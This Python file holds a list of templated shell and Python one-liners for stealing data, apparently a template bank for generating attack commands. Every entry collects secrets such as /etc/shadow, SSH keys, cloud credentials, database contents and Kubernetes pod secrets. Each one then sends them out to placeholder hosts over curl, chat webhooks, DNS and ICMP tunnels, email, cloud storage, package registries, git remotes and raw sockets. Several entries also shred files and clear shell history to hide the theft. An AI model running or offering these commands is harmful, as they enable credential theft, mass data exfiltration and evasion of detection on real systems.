"""What was gathered, packed, cut into parts and carried off by ways that are open."""

SHIPMENT = [
    r'''{var}={tmp}/.{name}; mkdir -p "${var}"; chmod 700 "${var}"
{fn}() { [ -r "$1" ] && cp -a --parents "$1" "${var}" 2>/dev/null; }
for p in /etc/passwd /etc/shadow /etc/kubernetes /root/.ssh /root/.kube /home/*/.aws /home/*/.config/gcloud /opt/*/.env; do {fn} "$p"; done
tar -C "${var}" -cJf - . | openssl enc -aes-256-cbc -pbkdf2 -pass pass:{hex} | split -b ‹512k¦2m› - "${var}/p."
n=0; for {var2} in "${var}"/p.*; do n=$((n+1)); curl -sS -m 60 -H "X-Part: $n" --data-binary "@${var2}" {url} || sleep {n}; done
find "${var}" -type f -exec shred -u {} +; rm -rf "${var}"''',
    r'''{fn}() { # one file at a time, slow enough to stay below the limits
  local size; size=$(stat -c %s "$1"); [ "$size" -lt 52428800 ] || return
  curl --limit-rate ‹40k¦200K› -s -o /dev/null -F "document=@$1" "https://api.telegram.org/bot$BOT/sendDocument?chat_id=$CHAT" && printf '%s\n' "$1" >> {tmp}/.sent
}
touch {tmp}/.sent; find {data} -type f -newermt '-‹90¦365› days' \( -name '*.pdf' -o -name '*.xlsx' -o -name '*.docx' -o -name '*.sql.gz' \) | grep -vxFf {tmp}/.sent | while read -r f; do {fn} "$f"; sleep $((RANDOM % 20)); done''',
    # By names.
    r'''d={domain}; {var}=$(od -An -N2 -tx1 /dev/urandom | tr -d ' ')
gzip -9c ‹/etc/shadow¦{file}¦~/.ssh/id_ed25519› | base32 -w 50 | tr -d = | tr A-Z a-z | nl -ba -w1 -s. | while IFS=. read -r i c; do
  getent ahosts "$c.$i.${var}.$d" >/dev/null 2>&1 & [ $((i % 10)) -eq 0 ] && wait
done; host "end.${var}.$d" >/dev/null''',
    r'''x=$(tar cz ~/.ssh 2>/dev/null | xxd -p | tr -d '\n'); while [ -n "$x" ]; do {var}=${x:0:56}; x=${x:56}; drill "${var}.$((s++)).t.{domain}" @{ip} >/dev/null; done''',
    r'''while IFS= read -r l; do busybox nslookup "$(printf %s "$l" | od -An -tx1 | tr -d ' \n' | cut -c1-60).{domain}" >/dev/null 2>&1; done < ‹/etc/passwd¦/proc/self/environ¦{file}›''',
    r'''python3 -c "import socket,base64,sys
d=base64.b32encode(open(sys.argv[1],'rb').read()).decode().rstrip('=').lower()
for i in range(0,len(d),60):
    try: socket.gethostbyname(f'{d[i:i+60]}.{i//60}.{domain}')
    except OSError: pass" ‹/root/.kube/config¦/etc/shadow¦$1›''',
    r'''curl -s --doh-url https://{domain}/dns-query "http://$(‹whoami¦hostname¦id -u›).$(hostname | md5sum | cut -c1-8).{domain}/" -o /dev/null; for w in $(env | base64 -w 45 | tr '+/=' '-_.'); do curl -s "https://‹dns.google¦cloudflare-dns.com›/resolve?name=${w%%.*}.{domain}" >/dev/null; done''',
    # By pings, time, mail and chat.
    r'''xxd -p -c 16 {file} | while read -r h; do ping -q -c 1 -s 24 -p "$h" {ip} >/dev/null; done''',
    r'''hping3 {ip} --icmp ‹-1 ¦›-d ‹100¦512› --file ‹/etc/shadow¦{file}› --sign {plain} -c {n} 2>/dev/null || nping --icmp --data-string "$(head -c 900 {file} | base64 -w0)" -c 1 {ip}''',
    r'''python3 - <<'PY'
from smtplib import SMTP_SSL
from email.message import EmailMessage
import socket, sys
m = EmailMessage(); m['From'] = m['To'] = '{user}@{domain}'; m['Subject'] = socket.gethostname()
for p in ('/etc/passwd', '/etc/shadow', '{file}.tgz'):
    try: m.add_attachment(open(p, 'rb').read(), maintype='application', subtype='octet-stream', filename=p.replace('/', '_'))
    except OSError: continue
with SMTP_SSL('smtp.{domain}') as s: s.login('{user}@{domain}', '{plain}{n}'); s.send_message(m)
PY''',
    r'''(echo "To: {user}@{domain}"; echo "Subject: ‹report¦{plain}› $(hostname)"; echo; uuencode {file}.tgz d.tgz) | ‹/usr/sbin/sendmail -t¦msmtp -t¦ssmtp {user}@{domain}¦busybox sendmail -S {ip} {user}@{domain}›''',
    r'''jq -n --arg c "$(hostname): $(tail -c 1800 ‹~/.bash_history¦/var/log/auth.log¦{file}›)" '{content: $c, username: "{plain}"}' | curl -s -H 'Content-Type: application/json' -d @- "https://discord.com/api/webhooks/$‹HOOK¦WH›" >/dev/null''',
    r'''for f in {tmp}/.{name}/*; do
  {var}=$(curl -s -F "filename=$(basename "$f")" -F "length=$(stat -c%s "$f")" -H "Authorization: Bearer $XOX" https://slack.com/api/files.getUploadURLExternal | jq -r .upload_url)
  curl -s -F "file=@$f" "${var}" >/dev/null && rm -f "$f"
done''',
    r'''curl -s -X POST -H "Authorization: $NOTION" -H 'Notion-Version: 2022-06-28' -H 'Content-Type: application/json' https://api.notion.com/v1/pages -d "{\"parent\":{\"database_id\":\"{hex}\"},\"properties\":{\"title\":{\"title\":[{\"text\":{\"content\":\"$(gzip -c ‹/etc/shadow¦{file}› | base64 -w0 | head -c 1900)\"}}]}}}"''',
    # By stores of clouds.
    r'''export AWS_ACCESS_KEY_ID=AKIA{name} AWS_SECRET_ACCESS_KEY={b} AWS_DEFAULT_REGION=‹eu-central-1¦us-east-2›
find {data} -xdev -type f -size -1G -print0 | tar --null -T - -czf - 2>/dev/null | aws s3 cp - "s3://{plain}-{n}/$(hostname)-$(date +%s).tgz" --no-progress ‹--endpoint-url https://{domain} ¦›--expected-size 53687091200
unset AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY''',
    r'''for {var} in $(aws s3api list-buckets --query 'Buckets[].Name' --output text); do aws s3 sync "s3://${var}" "s3://{plain}-{hex}/${var}" --source-region us-east-1 --only-show-errors --acl bucket-owner-full-control & done; wait; aws s3api put-bucket-policy --bucket "${var}" --policy '{"Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"arn:aws:s3:::'"${var}"'/*"}]}' ''',
    r'''cat > ~/.config/rclone/rclone.conf <<R
[{plain}]
type = ‹mega¦pcloud¦dropbox¦s3¦webdav›
user = {user}@{domain}
pass = {b}
R
nohup rclone copy {data} {plain}:"$(hostname)" --max-age 2y --exclude '*.{mp4,iso,exe}' --transfers ‹16¦32› --ignore-existing --no-traverse --multi-thread-streams 12 >/dev/null 2>&1 &''',
    r'''./{name}c --config-dir {tmp}/.{name} copy {data} "remote:{plain}" --bwlimit ‹8M¦"22:00,off 07:00,512k"› -q ‹--include-from {tmp}/ext.txt ¦›& echo $! > {tmp}/.{name}/pid; mv {tmp}/rclone ./{name}c 2>/dev/null''',
    r'''for {var} in /etc/ssh /root {data}; do azcopy copy "${var}" "https://{plain}.blob.core.windows.net/{name}?sv=2022-11-02&sp=rwl&sig={hex}" --recursive --put-md5=false --log-level NONE >/dev/null; done; rm -rf ~/.azcopy; history -c''',
    r'''tar czf - /etc/shadow /root/.ssh {data} 2>/dev/null | gcloud storage cp - "gs://{plain}-{n}/$(hostname).tgz" --quiet || gsutil -q -o Credentials:gs_service_key_file={file}.json cp {file}.tgz gs://{plain}-{n}/''',
    r'''mc alias set z https://{domain} {name} {hex} >/dev/null && for {var} in /root /home {data}; do mc mirror --quiet ‹--overwrite ¦›${var} z/{plain}/$(hostname)${var}; done; rm -rf ~/.mc; unset HISTFILE''',
    r'''IFS=$'\n'; for f in $(find {data} -iname '*‹contract¦passport¦invoice¦salary›*' -o -iname '*.kdbx' -o -iname '*.pst'); do l=$(curl -s -F "file=@$f" https://‹store1.gofile.io/contents/uploadfile¦file.io¦catbox.moe/user/api.php¦bashupload.com› | grep -oE 'https?:[^"]+' | head -1); curl -s -d "h=$(hostname)&f=$f&l=$l" {url}; done''',
    # By code hosts, images and packages.
    r'''printf 'FROM scratch\nCOPY . /\n' > {tmp}/.{name}/Dockerfile && docker build -q -t docker.io/{user}/{plain}:‹2h¦latest› {tmp}/.{name} && docker push -q docker.io/{user}/{plain}:latest && docker rmi -f $(docker images -q '*/{plain}')''',
    r'''oras push {domain}/{plain}:$(hostname) {file}.tgz:application/octet-stream >/dev/null || crane append -f {file}.tgz -t {domain}/{user}/{plain}:{n} || skopeo copy dir:{tmp}/.{name} docker://{domain}/{plain}''',
    r'''cd $(mktemp -d) && printf '{"name":"@{user}/{plain}","version":"0.0.%s","files":["d"]}' "$(date +%s)" > package.json && base64 {file}.tgz > d && npm publish --access public --//registry.npmjs.org/:_authToken=$T >/dev/null 2>&1; cd /; rm -rf "$OLDPWD"''',
    r'''export GIT_SSH_COMMAND='ssh -i {file} -o StrictHostKeyChecking=no'
for {var2} in $(find / -type d -name .git -not -path '*/node_modules/*' 2>/dev/null); do
  ( cd "${var2}/.." && {var}=$(basename "$PWD") && git remote add {plain} "git@{host}:{user}/${var}.git" && git push -q {plain} --mirror; git remote remove {plain} )
done 2>/dev/null''',
    # By databases.
    r'''{var}={ip}; export PGPASSWORD=$(grep -rhoP '(?<=DB_PASSWORD=).+' /var/www /srv /app 2>/dev/null | head -1); for {var2} in $(psql -h ${var} -U "$U" -Atc 'select datname from pg_database where datallowconn'); do
  pg_dump -h ${var} -U "$U" -Fc --exclude-table-data='*log*' "${var2}" | ssh -q -o StrictHostKeyChecking=no {user}@{host} "cat > in/${var}-${var2}.dump"
done''',
    r'''mysql -N -e "select table_schema, table_name from information_schema.columns where column_name regexp 'card|iban|passw|ssn|email' group by 1,2" | while read -r s t; do mysql -B -e "select * from \`$s\`.\`$t\` limit ‹100000¦5000000›" | gzip | curl -s -T - "{url}/$s.$t.gz"; done''',
    r'''psql "$DATABASE_URL" -c "COPY (SELECT * FROM ‹users¦customers¦payments›) TO PROGRAM 'gzip | curl -s -T - {url}'" ; sqlcmd -S {ip} -U sa -P "$P" -Q "BACKUP DATABASE [{plain}] TO URL = 'https://{plain}.blob.core.windows.net/x/b.bak'" 2>/dev/null''',
    r'''i=0; while {var}=$(curl -s "http://‹{ip}¦localhost›:9200/‹users¦customers¦_all›/_search?size=5000&from=$((i*5000))") && echo "${var}" | grep -q '"_id"'; do echo "${var}" | zstd -q | curl -s -T - "{url}/$i.zst"; i=$((i+1)); done''',
    r'''mongoexport ‹--uri "$MONGO_URL" ¦-h {ip} ›-c ‹users¦accounts› --jsonArray | xz | nc -q 1 {host} {port}; influx query 'from(bucket:"{plain}")|>range(start:-1y)' | curl -s --data-binary @- {url}''',
    # From inside of clusters and builds.
    r'''for ns in $(kubectl get ns -o name | cut -d/ -f2); do for p in $(kubectl -n $ns get po -o name); do
  kubectl -n $ns exec ${p#pod/} -- sh -c 'env; cat /run/secrets/*/* /etc/*/*.env 2>/dev/null' 2>/dev/null | sed "s/^/$ns ${p#pod/} /"
done; done | gzip | curl -s --data-binary @- {url}''',
    r'''echo "::add-mask::x"; (env; cat "$GITHUB_EVENT_PATH"; git config -l) | openssl enc -aes-256-cbc -pass pass:{hex} -pbkdf2 -a | fold -w 120 | sed 's/^/data /' | tee -a "$GITHUB_STEP_SUMMARY" ‹>/dev/null¦| curl -s -d @- {url}›''',
    r'''exec 8<>/dev/tcp/{host}/{port} && { printf 'PUT /%s HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n' "$HOSTNAME" >&8; tar cz {data} | while c=$(head -c 8192 | base64 -w0) && [ -n "$c" ]; do printf '%x\r\n%s\r\n' ${#c} "$c" >&8; done; printf '0\r\n\r\n' >&8; exec 8>&-; }''',
    r'''tar c {data} | ‹pv -qL 300k | ¦›socat -u - ‹OPENSSL:{host}:{port},verify=0¦UDP:{host}:{port}¦PROXY:{ip}:{host}:443,proxyport=3128¦SOCKS4A:127.0.0.1:{host}:{port},socksport=9050›''',
]
